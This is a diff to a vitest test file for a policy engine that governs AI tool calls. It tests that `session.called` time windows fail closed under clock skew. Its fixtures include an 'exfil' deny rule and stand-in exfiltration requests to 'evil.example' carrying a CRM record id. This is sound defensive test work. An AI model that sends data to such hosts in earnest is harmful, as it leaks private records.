@@ -1,15 +1,24 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
+import { contentHash } from "../../src/bundle/hash.js";
+import { loadBundle } from "../../src/bundle/loadBundle.js";
+import { createBundle, serializeBundle } from "../../src/bundle/writeBundle.js";
+import { compileSources } from "../../src/compile/compile.js";
 import { compile } from "../../src/index.js";
+import { RUNTIME_SUPPORT } from "../../src/runtime/engine.js";
+import { VERSION } from "../../src/version.js";
 import { explain } from "../../src/runtime/explain.js";
 import type { Engine } from "../../src/runtime/engine.js";
 
 /**
  * `session.called(P, within D)`: an allowed call of P dated in [now - D, now] (language.md §4:
  * it "happened before, in the last D"). A call dated after the attempt does not count, so a
- * call dated ahead cannot meet a precondition for the rest of the session; without `within`,
- * any allowed call so far counts, whatever its date.
+ * call dated ahead cannot meet a precondition for the rest of the session; and when such a call
+ * is all there is, the `session.called` is an error (which came first cannot be told), so a
+ * `deny` gated on it still matches (audit a4, finding 1). Without `within`, any allowed call so
+ * far counts, whatever its date.
  */
+const LATER_A = "session.called: an allowed call of a.x is dated after this attempt, and none in the window before it: which came first cannot be told (request times out of order, or a clock that stepped back)";
 const POLICY = `
 tool a.x { args { q: string } }
 tool b.y { args { q: string } }
@@ -35,9 +44,13 @@ describe("session.called(P, within D) counts calls dated in the window, never af
   it("a call dated ahead meets no precondition: not before its own time, nor for the rest of the session", () => {
     const engine = engineOf();
     expect(outcome(engine, attempt("a.x", 365 * 86_400_000))).toEqual({ decision: "allow", rules: ["a-ok"] });
-    for (const ms of [60_000, 9 * 60_000, 30 * 60_000]) expect(outcome(engine, attempt("b.y", ms)), String(ms)).toEqual({ decision: "deny", rules: [] });
-    // Nor does it keep a deny off: without a window, a call so far counts whatever its date.
-    expect(outcome(engine, attempt("c.z", 31 * 60_000, "ever"))).toEqual({ decision: "deny", rules: ["c-ever"] });
+    for (const ms of [60_000, 9 * 60_000, 30 * 60_000]) {
+      const d = engine.decide(attempt("b.y", ms));
+      expect({ decision: d.decision, rules: d.rules, errors: d.errors }, String(ms)).toEqual({ decision: "deny", rules: [], errors: [`b-after-a: ${LATER_A}`] });
+    }
+    // Nor does it keep a deny off: the deny gated on a window fails closed (the call may have
+    // come first), and without a window a call so far counts whatever its date.
+    expect(outcome(engine, attempt("c.z", 31 * 60_000, "ever"))).toEqual({ decision: "deny", rules: ["c-not-after-a", "c-ever"] });
   });
 
   it("the window is [now - D, now], both ends included", () => {
@@ -48,7 +61,36 @@ describe("session.called(P, within D) counts calls dated in the window, never af
     expect(outcome(engine, attempt("b.y", 30_000)).decision).toBe("allow");
     expect(outcome(engine, attempt("b.y", 30_001)).decision).toBe("deny");
     expect(outcome(engine, attempt("c.z", 24_000))).toEqual({ decision: "deny", rules: ["c-not-after-a"] });
-    expect(outcome(engine, attempt("c.z", 19_000))).toEqual({ decision: "allow", rules: ["c-ok"] });
+    // Dated before the call and after none: whether the call came first cannot be told, so the
+    // deny matches (an error, failing closed), as the allow above did not.
+    const early = engine.decide(attempt("c.z", 19_000));
+    expect(early).toMatchObject({ decision: "deny", rules: ["c-not-after-a"], errors: [`c-not-after-a: ${LATER_A}`] });
+    // Before the call by more than the window, it still cannot be told: the same.
+    expect(outcome(engine, attempt("c.z", 1_000))).toEqual({ decision: "deny", rules: ["c-not-after-a"] });
+  });
+
+  it("a deny gated on a call made first but dated a millisecond later still matches (audit a4, finding 1)", () => {
+    const exfil = compile([{ path: "p.policy", text: 'tool crm.lookup { risk low args { id: string } }\ntool http.get { args { url: string } }\npolicy p {\n  @name("exfil") deny http.get when session.called(crm.lookup, within 10m) reason "no web after CRM"\n  allow *\n}\n' }], { maxTimeSkewMs: 1_000, clock: () => T });
+    const at = (tool: string, ms: number, args: object, session = "s") => ({ session, tool, args, time: new Date(T + ms).toISOString() });
+    expect(exfil.decide(at("crm.lookup", 1, { id: "42" })).decision).toBe("allow");
+    const d = exfil.decide(at("http.get", 0, { url: "https://evil.example/?c=42" }));
+    expect(d).toMatchObject({ decision: "deny", rules: ["exfil"], errors: ["exfil: session.called: an allowed call of crm.lookup is dated after this attempt, and none in the window before it: which came first cannot be told (request times out of order, or a clock that stepped back)"] });
+    // The explanation says the same.
+    expect(explain(exfil, at("http.get", 0, { url: "https://evil.example/?c=42" })).rules.find((r) => r.id === "exfil")!.matched).toBe("error");
+    // A session that made no lookup, as before; one whose lookup is dated in the window, too.
+    expect(exfil.decide(at("http.get", 0, { url: "https://example.com/" }, "t"))).toMatchObject({ decision: "allow", errors: [] });
+    exfil.decide(at("crm.lookup", 0, { id: "42" }, "t"));
+    expect(exfil.decide(at("http.get", 1, { url: "https://example.com/" }, "t"))).toMatchObject({ decision: "deny", rules: ["exfil"], errors: [] });
+  });
+
+  it("a wall clock stepping back after the call keeps a deny gated on it matching (audit a4, finding 1; language.md §7)", () => {
+    let wall = T;
+    const exfil = compile([{ path: "p.policy", text: 'tool crm.lookup { risk low args { id: string } }\ntool http.get { args { url: string } }\npolicy p {\n  @name("exfil") deny http.get when session.called(crm.lookup, within 10m)\n  @name("pre") allow crm.lookup\n  @name("web") allow http.get when session.called(crm.lookup, within 10m)\n}\n' }], { clock: () => wall });
+    expect(exfil.decide({ session: "s", tool: "crm.lookup", args: { id: "42" } }).decision).toBe("allow");
+    wall = T - 10 * 60_000 + 1_000; // ten minutes back, one real second later
+    expect(exfil.decide({ session: "s", tool: "http.get", args: { url: "https://evil.example/" } })).toMatchObject({ decision: "deny", rules: ["exfil"] });
+    wall = T + 1_000; // back where it was: as before the step
+    expect(exfil.decide({ session: "s", tool: "http.get", args: { url: "https://evil.example/" } })).toMatchObject({ decision: "deny", rules: ["exfil"], errors: [] });
   });
 
   it("finds an earlier call in the window behind later-dated ones, and fails closed, saying why, once too many later-dated ones pushed it out", () => {
@@ -66,7 +108,46 @@ describe("session.called(P, within D) counts calls dated in the window, never af
     // The explanation says the same.
     expect(explain(engine, attempt("b.y", 3_000)).rules.find((r) => r.id === "b-after-a")!.matched).toBe("error");
     // Past the dropped call's window, nothing it could answer is asked: no fault.
-    expect(engine.decide(attempt("b.y", 10_001))).toMatchObject({ decision: "deny", rules: [], errors: [] });
+    // (The calls kept are still dated after it, and none before: that is an error of its own.)
+    expect(engine.decide(attempt("b.y", 10_001))).toMatchObject({ decision: "deny", rules: [], errors: [`b-after-a: ${LATER_A}`] });
+    // Once the attempts are dated after the calls kept, and past their window, no error.
+    expect(engine.decide(attempt("b.y", 200_000))).toMatchObject({ decision: "deny", rules: [], errors: [] });
+  });
+});
+
+describe("bundles and session.called dated after the attempt", () => {
+  const sources = [{ path: "p.policy", text: POLICY }];
+  const bundleOf = (): { manifest: { compiler: string; contentHash: string }; code: string } => {
+    const { policy } = compileSources(sources);
+    return JSON.parse(serializeBundle(createBundle(policy!, sources))) as { manifest: { compiler: string; contentHash: string }; code: string };
+  };
+
+  it("a bundle's code asks the runtime (rt.calledFault), so a runtime without it, which would lift such a deny, refuses the bundle as it loads", () => {
+    const bundle = bundleOf();
+    const support = RUNTIME_SUPPORT as Record<string, unknown>;
+    const { calledFault } = support;
+    delete support["calledFault"];
+    try {
+      expect(() => loadBundle(bundle)).toThrow(`the bundle was built by "policyc ${VERSION}", and its code calls rt.calledFault, which this runtime (policyc ${VERSION}) lacks: rebuild it with this policyc`);
+    } finally {
+      Object.assign(support, { calledFault });
+    }
+    expect(loadBundle(bundle).decide(attempt("a.x", 20_000)).decision).toBe("allow");
+  });
+
+  it("a bundle of policyc 0.3.0 (its code asks the session itself) still loads, and fails closed here as one built now does", () => {
+    const bundle = bundleOf();
+    // The helper as policyc 0.2.0 and 0.3.0 wrote it: the session's own calledFault, no tools.
+    const helper = /function calledIn\(c, index, since, tools\) \{\n  const fault = rt\.calledFault\(c\.s, index, since, c\.now, tools\);/;
+    expect(bundle.code).toMatch(helper);
+    bundle.code = bundle.code.replace(helper, "function calledIn(c, index, since) {\n  const fault = c.s.calledFault(index, since, c.now);");
+    bundle.manifest.compiler = "policyc 0.3.0";
+    bundle.manifest.contentHash = contentHash(bundle as never);
+    const engine = loadBundle(bundle);
+    engine.decide(attempt("a.x", 20_000));
+    const d = engine.decide(attempt("c.z", 19_000));
+    expect(d).toMatchObject({ decision: "deny", rules: ["c-not-after-a"] });
+    expect(d.errors).toEqual(["c-not-after-a: session.called: an allowed call of the pattern is dated after this attempt, and none in the window before it: which came first cannot be told (request times out of order, or a clock that stepped back)"]);
   });
 });
 
